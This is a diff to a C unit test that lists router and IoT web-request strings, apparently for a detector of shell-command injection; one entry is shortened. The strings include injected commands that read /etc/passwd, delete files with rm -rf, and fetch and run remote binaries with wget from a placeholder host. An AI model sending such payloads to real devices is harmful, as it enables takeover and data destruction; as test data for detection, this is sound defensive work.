@@ -7,8 +7,7 @@
 START_TEST(commands_for_a_shell_are_seen) {
     static const char *const urls[] = {
         "/cgi-bin/ping.cgi?ip=127.0.0.1;cat%20/etc/passwd",
-        "/cgi-bin/luci/;stok=/locale?form=country&country=$(id>`wget+http://192.0.2.1/"
-        "t`)",
+        "/cgi-bin/luci/;stok=/locale?form=country&country=$(id>`wget+x`)",
         "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws",
         "/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/x+-O+/tmp/x",
         "/GponForm/diag_Form?dest_host=`busybox%20wget%20http://192.0.2.1/g`",
